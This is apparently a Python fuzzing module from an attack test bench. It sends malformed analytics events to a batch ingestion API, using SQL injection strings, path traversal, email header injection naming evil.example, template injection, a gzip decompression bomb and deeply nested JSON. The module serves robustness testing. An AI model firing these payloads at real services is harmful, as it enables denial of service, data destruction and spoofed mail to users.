"""Somebody with the public write key: whatever an event can hold, aimed at the journeys that everybody is in."""

from __future__ import annotations

import gzip
import itertools
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from bench.attack.client import Client, Marks
from bench.attack.workspaces import JOIN, ORDER, SIGNUP, Place

ZONES = (
    "localtime",
    "posixrules",
    "Factory",
    "UTC+99:99:99x",
    "Mars/Olympus",
    "'; --",
    "\\",
    "",
    "../../etc/passwd",
    "a" * 400,
)
NUMBERS = (10**14, -(10**14), 1e308, -1e308, 1e-320, 99_999_999_999_999.99996, 202611260001234567, 2**63 - 1, -0.0)
TIMES = (
    "9999-12-31T23:59:59.999Z", "0001-01-01T00:00:00Z", "-0001-01-01", "1900-01-01T00:00:00Z", "2026-02-30T00:00:00Z", "soon",
    0, -1, 1e18, 253402300800, "2026-11-26T25:61:61Z", "2026-11-26T00:00:00+99:99",
)  # fmt: skip
WORDS = (
    "=?utf-8?q?Ann=0D=0AReply-To:_thief@evil.example=0D=0A=0D=0A<h1>Pay_here</h1>?=", "日=?unknown?q?=FF?=", "=??=",
    "a\r\nBcc: x@evil.example", "{{ profile | inspect }}", "{% for i in (1..100000000) %}x{% endfor %}", "%s%n\\x00", "\u202egnp",
    "\ud7ff\ufffe\uffff", "''; DROP TABLE profiles_profile; --", "(a+)+$", "x" * 20_000,
)  # fmt: skip
KEYS = (
    "$consent/email",
    "$consent/*",
    "$locale",
    "$timezone",
    "$",
    "",
    " ",
    "a.b.c",
    "a[0]",
    "x" * 400,
    "日本",
    "'",
    '"',
    "\\",
)
IDENTIFIERS = (
    "null", "undefined", "0", "-1", "unknown", "N/A", "[object Object]", "anonymous", " ", "\t", "x" * 3_000, "\u200b",
    "a" * 100 + "@" + "b" * 300 + ".example", "@", "a@b@c", "prf_1", "\uffff", "\U0010ffff", 2**63, -5, 1.5, True, [], {},
)  # fmt: skip
RAW = (
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s","properties":{"total":1%s}}',
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s\\u0000%s"}',
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s","properties":{"a":"\\ud800%s"}}',
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s","properties":{"a":NaN%.0s}}',
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s","userId":"b%s"}',
    b'{"type":"track","event":"Order Completed","userId":"attack-raw","messageId":"%s","properties":{"a":1e999%.0s}}',
    b'{"type":"track","event":"Order Completed","userId":"\xff\xfe%s%s"}',
)
"""Bytes that no JSON library writes."""


class WriteKey:
    """The attacker. Each attempt sends a few requests and can be repeated forever, with other people each time."""

    def __init__(self, client: Client, place: Place, marks: Marks) -> None:
        self.client = client
        self.place = place
        self.marks = marks
        self.attempts = (
            ("F2 zones", self.zones),
            ("F3 numbers", self.numbers),
            ("F6 batches", self.batches),
            ("F6 raw bytes", self.raw_bytes),
            ("F7 F8 words", self.words),
            ("F10 consent", self.consent),
            ("F20 times", self.times),
            ("F21 growing profiles", self.growth),
            ("identifiers", self.identifiers),
            ("sizes", self.sizes),
        )
        self._grown = itertools.count()

    def zones(self) -> None:
        """F2: people in zones that one of the two servers does not know join the wait until a clock time."""
        self._all(
            "F2 zones",
            (
                item
                for zone in ZONES
                for item in self._person(JOIN, {"timezone": zone, "locale": zone}, context={"timezone": zone})
            ),
        )

    def numbers(self) -> None:
        """F3: goal values and traits beyond what a column holds."""
        fields = ({"total": number, "value": number, "price": [number], "quantity": number} for number in NUMBERS)
        self._all("F3 numbers", (item for props in fields for item in self._person(ORDER, {"age": props}, props)))

    def batches(self) -> None:
        """F6: what the batch adds to its items, and items that say nothing of themselves."""
        for common in (
            {"context": None, "sentAt": None},
            {"context": {}, "sentAt": "soon"},
            {"context": {"ip": "x" * 9_000}},
            {"context": [], "sentAt": []},
            {"sentAt": -1e300},
        ):
            items = [
                {**item, **more}
                for more in (
                    {"messageId": None},
                    {"messageId": ""},
                    {"context": None},
                    {"sentAt": None},
                    {"type": None},
                )
                for item in (self._event(ORDER, self._user()),)
            ]
            self._batch("F6 batches", items, **common)
        same = self._event(ORDER, self._user())
        self._batch("F6 batches", [same] * 50)
        for body in ({"batch": None}, {"batch": {}}, {"batch": [None, 1, [], "x", {}]}, [], None, 1, {"batch": []}):
            self.client.ask("F6 batches", "POST", "/v1/batch", content=orjson.dumps(body))

    def raw_bytes(self) -> None:
        """NUL, half a surrogate pair, NaN, a key given twice, bytes that are no text: alone and among good items."""
        for shape in RAW:
            mark = self.marks()
            bad = shape % (mark.encode(), b"")
            self.client.ask("F6 raw bytes", "POST", "/v1/track", content=bad)
            good = self._event(ORDER, self._user())
            self._content("F6 raw bytes", b'{"batch":[%s,%s]}' % (orjson.dumps(good), bad), [good["messageId"], mark])
        deep = b"[" * 100_000 + b"]" * 100_000
        for body in (b'{"batch":[%s]}' % deep, b'{"batch":', b"\x1f\x8b", b"", b"\xef\xbb\xbf{}", deep):
            self.client.ask("F6 raw bytes", "POST", "/v1/batch", content=body)

    def words(self) -> None:
        """F7, F8: encoded words with line breaks, Liquid and regular expressions in what messages say to people."""
        traits = ({"first_name": word, "tier": word, "city": {"a": [word]}, "email": word} for word in WORDS)
        self._all("F7 F8 words", (item for each in traits for item in self._person(SIGNUP, each)))

    def consent(self) -> None:
        """F10: a yes from the future, from the year 9999 and under the guard's own key."""
        ahead = (datetime.now(UTC) + timedelta(hours=23)).isoformat()
        choices = [
            {"categoryPreferences": {"email": True, "webhook": False, "*": True, "": True}, "at": at}
            for at in (ahead, *TIMES)
        ]
        people = (self._person(ORDER, dict.fromkeys(KEYS, True), context={"consent": given}) for given in choices)
        self._all("F10 consent", itertools.chain.from_iterable(people))
        self._all("F10 consent", self._person(ORDER, {}, context={"consent": {"categoryPreferences": [1, 2]}}))

    def times(self) -> None:
        """F20: every month from 1900 on, and times that are none."""
        months = [f"{1900 + n // 12}-{n % 12 + 1:02}-05T00:00:00Z" for n in range(0, 127 * 12, 5)]
        items = (self._event(ORDER, self._user()) | {"timestamp": at} for at in (*TIMES, *months))
        self._all("F20 times", items)
        self._all("F20 times", (self._event(JOIN, self._user(), {"at": at, "total": at}) for at in TIMES))

    def growth(self) -> None:
        """F21: one profile that keeps getting new traits, and one that gets very many at once."""
        turn = next(self._grown)
        for part in range(3):
            traits = {f"t{turn}-{part}-{n}": "x" * 200 for n in range(100)}
            self._all("F21 growing profiles", self._person(ORDER, traits, user="attack-giant"))

    def identifiers(self) -> None:
        """Ids that many people share, that are no text, or very long: nobody may become anybody else by them."""
        for value in IDENTIFIERS:
            device = self._user()
            items = [self._event(ORDER, value), self._event(SIGNUP, device) | {"anonymousId": value}]
            items.append({"type": "alias", "userId": device, "previousId": value, "messageId": self.marks()})
            items.append({"type": "group", "userId": device, "groupId": value, "messageId": self.marks()})
            external = [
                {"id": value, "type": kind, "encoding": "none"} for kind in ("email", "phone", "user_id", "x", "")
            ]
            items.append(self._event(ORDER, device) | {"context": {"externalIds": external}})
            self._batch("identifiers", items)

    def sizes(self) -> None:
        """As large as is taken and a little larger; a small body that unfolds to a huge one."""
        fill = {"text": "x" * 31_000}
        self._batch("sizes", [self._event(ORDER, self._user(), fill) for _ in range(15)])
        self._batch("sizes", [self._event(ORDER, self._user(), {"text": "x" * 33_000})])
        self._batch(
            "sizes", [self._event(f"{self.marks()} {'x' * length}", self._user()) for length in (150, 180, 400)]
        )
        self._batch("sizes", [self._event(ORDER, self._user(), {f"k{n}": n for n in range(2_000)})])
        bomb = gzip.compress(b'{"batch":[' + b" " * 50_000_000 + b"]}")
        self.client.ask("sizes", "POST", "/v1/batch", content=bomb, content_encoding="gzip")
        self.client.ask("sizes", "POST", "/v1/batch", content=bomb[: len(bomb) // 2], content_encoding="gzip")

    def _user(self) -> str:
        return f"{self.marks()}user"

    def _event(self, name: str, user: object, properties: dict[str, Any] | None = None) -> dict[str, Any]:
        mark = self.marks()
        given = {"total": 5, **(properties or {}), "mark": mark}
        return {"type": "track", "event": name, "userId": user, "properties": given, "messageId": mark}

    def _person(
        self, event: str, traits: dict[str, Any], properties: dict[str, Any] | None = None, *,
        context: dict[str, Any] | None = None, user: str = "",
    ) -> Iterator[dict[str, Any]]:  # fmt: skip
        """Somebody introduces themselves and does something, in that order."""
        user = user or self._user()
        more = {"context": context} if context else {}
        yield {"type": "identify", "userId": user, "traits": traits, "messageId": self.marks()} | more
        yield self._event(event, user, properties) | more

    def _all(self, fault: str, items: Iterable[dict[str, Any]]) -> None:
        """In batches that fit."""
        batch: list[dict[str, Any]] = []
        size = 0
        for item in items:
            length = len(orjson.dumps(item))
            if batch and size + length > 400_000:
                self._batch(fault, batch)
                batch, size = [], 0
            batch.append(item)
            size += length
        self._batch(fault, batch)

    def _batch(self, fault: str, items: list[dict[str, Any]], **common: object) -> None:
        body = {"batch": items, "sentAt": datetime.now(UTC).isoformat()} | common
        marks = [str(item.get("messageId") or item["properties"]["mark"]) for item in items]
        self._content(fault, orjson.dumps(body), marks)

    def _content(self, fault: str, content: bytes, marks: list[str]) -> None:
        answer = self.client.ask(fault, "POST", "/v1/batch", content=content)
        if answer is not None and answer.status_code == 200:
            self.client.tally.accepted.update(marks)
